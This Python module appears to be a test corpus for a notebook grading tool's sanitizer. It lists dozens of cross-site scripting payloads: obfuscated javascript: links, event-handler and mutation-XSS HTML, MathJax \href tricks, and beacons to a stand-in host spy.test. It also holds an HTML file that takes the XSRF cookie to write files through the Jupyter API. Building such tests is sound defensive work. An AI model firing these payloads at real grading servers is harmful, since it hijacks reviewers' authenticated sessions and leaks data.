"""What a student may write to act in the browser of whoever reads it.

Each piece would set the title, open a dialog, fetch from another host, or write a file as the reader.
"""

ACT = "document.title='owned'"
COURSE = "/formgrader?path=submitted/mallory/00_double"  # its nbgrader_config.py is a program

LINKS = [
    f"[a](javascript:{ACT})",
    f"[b](javascript&colon;{ACT})",
    f"[c](java&#115;cript:{ACT})",
    f"[d](&#x6A;avascript&#58;{ACT})",
    f"[e](%6Aavascript:{ACT})",
    f"[f](JaVaScRiPt:{ACT})",
    f"[g](<java\tscript:{ACT}>)",
    f"[h](java&Tab;script:{ACT})",
    f"[i](java&NewLine;script:{ACT})",
    f"[j](&#1;javascript:{ACT})",
    f"[k](\u00a0javascript:{ACT})",
    f"[l](ｊavascript:{ACT})",
    f"[m](vbscript:{ACT})",
    f"[n](data:text/html,<script>opener.{ACT}</script>)",
    "[o](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuZG9jdW1lbnQudGl0bGU9J293bmVkJzwvc2NyaXB0Pg==)",
    "[p](data:image/svg+xml,<svg onload=alert(1)>)",
    f"[q][one] [one] [q][]\n\n[one]: javascript:{ACT}\n[q]: <javascript&colon;{ACT}>",
    f"<javascript:{ACT}>",
    f"![r](javascript:{ACT}) [![s](x.png)](javascript:{ACT})",
    "[t](page.html) [t2](./page.html#x) [t3](page.svg) [t4](page%2Ehtml) [t5](nbgrader_config.py)",
    "[u](/logout) [u2](../../../logout) [u3](//localhost/logout)",
    "[u4](\\\\localhost/logout) [u5](/\\localhost)",
    f"[v](http://127.0.0.1:@PORT@{COURSE}) [v2](http://localhost:@PORT@{COURSE})",
    f"[v3](http://0:@PORT@{COURSE})",
    f"[v4](http://2130706433:@PORT@{COURSE}) [v5](http://[::1]:@PORT@{COURSE}) [v6]({COURSE})",
    f"[v7](http://LOCALHOST.:@PORT@{COURSE}) [v8](http://a.b.c@localhost:@PORT@{COURSE})",
    f"[v9](http://x.localhost:@PORT@{COURSE}) [v10](https:localhost:@PORT@{COURSE})",
    "[w](file:///etc/passwd) [w2](ftp://localhost/x) [w3](blob:x) [w4](view-source:x) [w5](jar:x)",
    f"- item\n  > [x](javascript:{ACT})\n  > | a |\n  > |---|\n  > | [y](javascript&colon;{ACT}) |",
    f"[note][^1]\n\n[^1]: [z](javascript:{ACT})",
    f"term\n: [z2](javascript:{ACT})",
]
HTML = [
    f"<script>{ACT}</script>",
    f"<img src=x onerror={ACT}> <img/src=x/onerror={ACT}> <svg onload={ACT}> <svg/onload={ACT}>",
    f"<a href=javascript:{ACT}>a</a> <a href='java&#x0A;script:{ACT}'>b</a>",
    f"<a href=' javascript:{ACT}'>c</a>",
    f"<a href=# onclick={ACT}>d</a> <p onmouseover={ACT} style='position:fixed;inset:0'>everywhere</p>",
    f"<svg><a xlink:href=javascript:{ACT}><text y=20>e</text></a></svg> <math href=javascript:{ACT}>f</math>",
    f"<iframe srcdoc='<script>parent.{ACT}</script>'></iframe> <iframe src=page.html></iframe>",
    "<iframe src=javascript:parent.document.title='owned'></iframe>",
    "<embed src=page.svg> <object data=page.html>",
    "<base href=http://spy.test/> <meta http-equiv=refresh content='0;url=page.html'>",
    "<link rel=stylesheet href=http://spy.test/x.css> <style>@import '//spy.test/x'</style>",
    f"<form action=page.html><button formaction=javascript:{ACT}>press</button><input type=submit></form>",
    f"<details open ontoggle={ACT}>x</details> <video src=x onerror={ACT}> <audio src=x onerror={ACT}>",
    "<div style='background:url(http://spy.test/bg)'>x</div> <input autofocus onfocus=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)> --> <![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?x <img onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'> <noscript><p title='</noscript><img src=x "
    "onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<div class='nbgrader_cell'><input class='score' id=explain_double></div> <b id=submission_id>x</b>",
    "<x onclick=alert(1) tabindex=1 contenteditable>press</x> <button onclick=alert(1)>press</button>",
    "</div></div></body></html><script>alert(1)</script>",
    "<table background=http://spy.test/t><td><b>not closed",
]
PICTURES = [
    "![a](http://spy.test/a.png) ![b](https://spy.test/b) ![c](//spy.test/c)",
    "![d][pic]\n\n[pic]: http://spy.test/d.png",
    "<img src=http://spy.test/e.png> <img srcset='http://spy.test/f.png 1x'>",
    "<picture><source srcset=http://spy.test/g.png></picture> <video poster=//spy.test/h>",
    "![i](page.svg) ![j](data:image/svg+xml,<svg onload=alert(1)>) ![k](attachment:evil.svg) ![l](/logout)",
]
MATHS = [
    rf"$\href{{javascript:{ACT}}}{{x}}$ $$\href{{javascript:{ACT}}}{{y}}$$",
    rf"\\(\href{{javascript:{ACT}}}{{z}}\\)",
    r"$\style{position:fixed;inset:0}{x}$ $\class{score}{x}$ $\cssId{submission_id}{x}$ $\require{html}x$",
    r"$\html{<img src=x onerror=alert(1)>}$ $\text{<img src=x onerror=alert(1)>}$ $\unicode{x3c}script>$",
    rf"$\def\go{{\href}}\go{{javascript:{ACT}}}{{x}}$",
    rf"$\newcommand{{\go}}{{\href}}\go{{javascript:{ACT}}}{{y}}$",
    rf"\begin{{align}} \href{{javascript:{ACT}}}{{x}} &= 1 \end{{align}} $\url{{javascript:{ACT}}}$",
    r"$\includegraphics{http://spy.test/m.png}$ $\hspace{-1000em}x$ $x$<script>alert(1)</script>$y$",
]
BLOCKS = [
    f"```html\n<script>{ACT}</script>\n",
    f"~~~mermaid\nclick A javascript:{ACT}\n",
    f"    <script>{ACT}</script>",
]
PIECES = [*LINKS, *HTML, *PICTURES, *MATHS, *BLOCKS]

PAGE = """<!DOCTYPE html><title>page</title><script>
document.title = "owned";
const xsrf = (document.cookie.match(/_xsrf=([^;]*)/) || [])[1];
fetch("/api/contents/owned.txt", {method: "PUT", headers: {"X-XSRFToken": xsrf},
    body: JSON.stringify({type: "file", format: "text", content: "owned"})});
</script>"""
SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{ACT}</script></svg>'
FILES = {
    "page.html": PAGE,
    "page.htm": PAGE,
    "page.xhtml": PAGE,
    "page.xml": SVG,
    "page.svg": SVG,
    "page": PAGE,
    "data.csv": PAGE,
    "script.js": "alert(1)",
    "nbgrader_config.py": "open('owned.txt', 'w').write('owned')",
}
